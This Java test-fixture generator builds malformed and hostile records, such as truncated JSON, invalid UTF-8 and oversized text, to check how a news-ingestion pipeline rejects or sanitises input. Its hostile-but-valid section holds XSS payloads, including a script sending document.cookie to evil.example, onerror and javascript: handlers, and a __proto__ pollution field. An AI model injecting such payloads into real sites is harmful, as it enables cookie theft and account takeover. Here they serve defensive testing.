package dev.marquee.it;

import dev.marquee.ingest.RejectReason;
import dev.marquee.serde.Json;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Generated malformed and hostile raw records for issue 6 §3, each with what the app must do with it: dead-letter it
 * with a reason, or enrich it (hostile but valid: HTML with scripts, control characters, unknown fields, non-English
 * text, duplicate ids), interleaved with ordinary valid articles.
 */
public final class HostilePayloads {

    /** Larger than any limit in the pipeline: the raw topic of the test is opened up to accept it. */
    public static final int TEN_MB = 10 * 1024 * 1024;

    /**
     * One record to produce. {@code reason} is the expected dead-letter reason, or null when the record must be
     * enriched under {@code articleId}.
     */
    public record Payload(String kind, String key, byte[] value, RejectReason reason, String articleId) {
        public boolean bad() {
            return reason != null;
        }
    }

    private final Random random;
    private final List<Payload> payloads = new ArrayList<>();
    private int serial;

    private HostilePayloads(long seed) {
        this.random = new Random(seed);
    }

    /** Every payload, shuffled with {@code seed}, except that the two versions of a duplicated id keep their order. */
    public static List<Payload> generate(long seed, int ordinaryArticles) {
        HostilePayloads g = new HostilePayloads(seed);
        g.bad();
        g.hostileButValid();
        for (int n = 0; n < ordinaryArticles; n++) {
            g.payloads.add(new Payload("ordinary article", TestArticles.id(n), TestArticles.article(n), null, TestArticles.id(n)));
        }
        List<Payload> shuffled = new ArrayList<>(g.payloads);
        Collections.shuffle(shuffled, g.random);
        return keepDuplicateOrder(shuffled);
    }

    private void bad() {
        for (int i = 0; i < 200; i++) {
            // Cut between characters, not inside "ó": a cut inside a UTF-8 sequence is an INVALID_UTF8 case, not this one.
            String whole = new String(json(article("trunc")), StandardCharsets.UTF_8);
            badOne("truncated JSON", whole.substring(0, 1 + random.nextInt(whole.length() - 2)).getBytes(StandardCharsets.UTF_8),
                    RejectReason.INVALID_JSON);
        }
        byte[][] invalidUtf8 = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0x80}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}};
        for (int i = 0; i < 200; i++) {
            byte[] prefix = "{\"id\":\"utf8-".getBytes(StandardCharsets.UTF_8);
            byte[] suffix = ("\",\"text\":\"Spike Jonze in Her " + i + "\"}").getBytes(StandardCharsets.UTF_8);
            badOne("invalid UTF-8", concat(prefix, invalidUtf8[i % invalidUtf8.length], suffix), RejectReason.INVALID_UTF8);
        }
        for (int i = 0; i < 50; i++) {
            badOne("null value", null, RejectReason.NULL_VALUE);
        }
        for (int i = 0; i < 25; i++) {
            payloads.add(new Payload("null key and value", null, null, RejectReason.NULL_VALUE, null));
        }
        for (int i = 0; i < 120; i++) {
            Map<String, Object> a = article("missing");
            switch (i % 4) {
                case 0 -> a.remove("id");
                case 1 -> a.remove("text");
                case 2 -> a.put("id", "   ");
                default -> a.put("text", null);
            }
            badOne("missing field", json(a), RejectReason.MISSING_FIELD);
        }
        for (int i = 0; i < 120; i++) {
            Map<String, Object> a = article("typed");
            switch (i % 5) {
                case 0 -> a.put("id", 42 + i);
                case 1 -> a.put("text", List.of("an", "array"));
                case 2 -> a.put("title", Map.of("nested", "object"));
                case 3 -> a.put("id", true);
                default -> a.put("published_at", 20140131);
            }
            badOne("wrongly typed field", json(a), RejectReason.WRONG_TYPE);
        }
        for (int i = 0; i < 60; i++) {
            Map<String, Object> a = article("date");
            a.put("published_at", i % 2 == 0 ? "yesterday" : "31/01/2014");
            badOne("invalid date", json(a), RejectReason.INVALID_FIELD);
        }
        String[] notObjects = {"[1,2,3]", "\"just a string\"", "42", "true", "null"};
        for (int i = 0; i < 75; i++) {
            badOne("JSON but not an object", notObjects[i % notObjects.length].getBytes(StandardCharsets.UTF_8), RejectReason.NOT_AN_OBJECT);
        }
        String[] empty = {"", "   \n\t ", "<script>alert('only a script')</script>", "<p> </p><style>p{color:red}</style>"};
        for (int i = 0; i < 80; i++) {
            Map<String, Object> a = article("empty");
            a.put("text", empty[i % empty.length]);
            badOne("empty text", json(a), RejectReason.EMPTY_TEXT);
        }
        for (int i = 0; i < 50; i++) {
            int depth = 100 + random.nextInt(5_000);
            String nested = "{\"id\":\"deep-" + i + "\",\"text\":\"deep\",\"x\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
            badOne("deeply nested JSON", nested.getBytes(StandardCharsets.UTF_8), RejectReason.INVALID_JSON);
        }
        for (int i = 0; i < 50; i++) {
            // Raw control characters are not allowed inside JSON strings (only escaped ones are).
            String raw = "{\"id\":\"ctl-" + i + "\",\"text\":\"bell\u0007 nul\u0000 esc\u001b[31m red\"}";
            badOne("unescaped control characters", raw.getBytes(StandardCharsets.UTF_8), RejectReason.INVALID_JSON);
        }
        for (int i = 0; i < 25; i++) {
            badOne("empty value", new byte[0], RejectReason.INVALID_JSON);
        }
        for (int i = 0; i < 25; i++) {
            byte[] garbage = new byte[2 + random.nextInt(512)];
            random.nextBytes(garbage);
            garbage[0] = '{';
            garbage[1] = (byte) 0xFF;
            badOne("random bytes", garbage, RejectReason.INVALID_UTF8);
        }
        for (int i = 0; i < 25; i++) {
            StringBuilder letters = new StringBuilder("{");
            for (int c = random.nextInt(300); c >= 0; c--) {
                letters.append((char) ('a' + random.nextInt(26)));
            }
            badOne("random letters after {", letters.toString().getBytes(StandardCharsets.UTF_8), RejectReason.INVALID_JSON);
        }
        Map<String, Object> huge = article("huge");
        huge.put("text", "Her. ".repeat(TEN_MB / 5));
        badOne("10 MB text", json(huge), RejectReason.TOO_LARGE);
        Map<String, Object> large = article("large");
        large.put("text", "Gravity. ".repeat(1_500_000 / 9));
        badOne("1.5 MB text (over max.article.bytes, within the raw topic contract)", json(large), RejectReason.TOO_LARGE);
    }

    private void hostileButValid() {
        for (int i = 0; i < 100; i++) {
            Map<String, Object> a = article("html");
            a.put("title", "<b>Her</b> review<script>document.location='https://evil.example/?c='+document.cookie</script>");
            a.put("text", "<p>Spike Jonze's <i>Her</i> opens in February.</p><script type=\"text/javascript\">alert('xss " + i
                    + "')</script><img src=x onerror=alert(1)><iframe src=\"https://evil.example\"></iframe>"
                    + "<div onclick=\"steal()\">Jonze wrote it alone.</div><SCRIPT>alert(2)</SCRIPT><!-- <script>hidden()</script> -->"
                    + "<a href=\"javascript:alert(3)\">more</a><style>body{display:none}</style>");
            valid("HTML with script tags", a);
        }
        for (int i = 0; i < 50; i++) {
            Map<String, Object> a = article("control");
            a.put("title", "Title\u0000with\u0007control\u001bchars");
            a.put("text", "Gravity\u0000 by Alfonso Cuarón\u0008\u000b\u000c\u007f\u009b won\u200b. \u202eReversed\u202c text, BOM \ufeff here.");
            valid("escaped control characters", a);
        }
        for (int i = 0; i < 50; i++) {
            Map<String, Object> a = article("unknown");
            a.put("author", Map.of("name", "A. Critic", "roles", List.of("critic")));
            a.put("tags", List.of("film", "awards"));
            a.put("__proto__", Map.of("admin", true));
            valid("unknown fields", a);
        }
        String[] foreign = {
                "斯派克·琼斯的新电影《她》将于二月上映。", "سبايك جونز يتحدث عن فيلمه الجديد هي.", "Спайк Джонз рассказал о фильме «Она».",
                "Gravity 🚀🌍 de Alfonso Cuarón 🎬 ganó siete premios Óscar.", "スパイク・ジョーンズの映画『her』。", "עברית: הסרט של ספייק ג'ונז."};
        for (int i = 0; i < 60; i++) {
            Map<String, Object> a = article("foreign");
            a.put("language", "xx");
            a.put("text", foreign[i % foreign.length]);
            valid("non-English text", a);
        }
        for (int i = 0; i < 30; i++) {
            String id = "dup-" + i;
            for (int version = 1; version <= 2; version++) {
                Map<String, Object> a = new LinkedHashMap<>();
                a.put("id", id);
                a.put("text", "Version " + version + " of " + id + ": Spike Jonze's Her.");
                payloads.add(new Payload("duplicate article id (version " + version + ")", id, json(a), null, id));
            }
        }
        for (int i = 0; i < 25; i++) {
            Map<String, Object> a = article("nullkey");
            payloads.add(new Payload("valid article with null key", null, json(a), null, (String) a.get("id")));
        }
    }

    /** The second version of each duplicated id must follow the first: swap them back where the shuffle reversed them. */
    private static List<Payload> keepDuplicateOrder(List<Payload> shuffled) {
        Map<String, Integer> firstIndex = new LinkedHashMap<>();
        for (int i = 0; i < shuffled.size(); i++) {
            Payload p = shuffled.get(i);
            if (p.kind().startsWith("duplicate")) {
                Integer other = firstIndex.putIfAbsent(p.articleId(), i);
                if (other != null && p.kind().endsWith("(version 1)")) {
                    Collections.swap(shuffled, other, i);
                }
            }
        }
        return shuffled;
    }

    private Map<String, Object> article(String prefix) {
        Map<String, Object> a = new LinkedHashMap<>();
        a.put("id", prefix + "-" + (serial++));
        a.put("title", "Awards season");
        a.put("published_at", "2014-01-31");
        a.put("text", "Spike Jonze's Her and Alfonso Cuarón's Gravity lead the field.");
        return a;
    }

    private void badOne(String kind, byte[] value, RejectReason reason) {
        String key = "bad-" + (serial++);
        payloads.add(new Payload(kind, key, value, reason, null));
    }

    private void valid(String kind, Map<String, Object> article) {
        String id = (String) article.get("id");
        payloads.add(new Payload(kind, id, json(article), null, id));
    }

    private static byte[] json(Map<String, Object> value) {
        return Json.toBytes(value);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }
}
